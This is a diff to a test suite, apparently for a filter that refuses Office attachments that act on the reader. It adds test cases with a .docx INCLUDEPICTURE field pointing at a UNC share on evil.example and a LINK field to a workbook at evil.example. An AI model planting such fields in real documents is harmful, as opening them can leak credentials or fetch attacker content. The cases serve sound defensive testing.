@@ -710,6 +710,18 @@ describe('Office attachments that act on the reader are refused (DDE, macros, Ac
       ['remote-content'],
     ],
     [
+      'a picture field that fetches from a share when opened (INCLUDEPICTURE)',
+      'notice.docx',
+      docx(body(field('INCLUDEPICTURE "\\\\\\\\evil.example\\\\share\\\\a.png" \\d'))),
+      ['remote-content'],
+    ],
+    [
+      'a LINK field to a workbook on the web',
+      'notice.docx',
+      docx(body(`<w:fldSimple w:instr=' LINK Excel.Sheet.12 "https://evil.example/x.xlsx" "Sheet1!R1C1" \\a '/>`)),
+      ['remote-content'],
+    ],
+    [
       'a template on the web whose format the address does not give',
       'notice.docx',
       docx(body(''), { 'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', 'https://evil.example/t?x=.dotx') }),
@@ -812,6 +824,7 @@ describe('Office attachments that act on the reader are refused (DDE, macros, Ac
       'notice.docx',
       docx(body(`${field(' PAGE ')}${field('TOC \\o "1-3"')}${field('MERGEFIELD ชื่อ')}${field('HYPERLINK "https://www.nacc.go.th/"')}`)),
     ],
+    ['a picture field for a file beside the document', 'notice.docx', docx(body(field('INCLUDEPICTURE "logo.png" \\* MERGEFORMAT')))],
     ['the word DDEAUTO as text, not a field', 'notice.docx', docx(body(run('<w:t>DDEAUTO คือคำสั่งที่ระบบตรวจ</w:t>')))],
     [
       'a field whose result, not its instruction, says DDE',
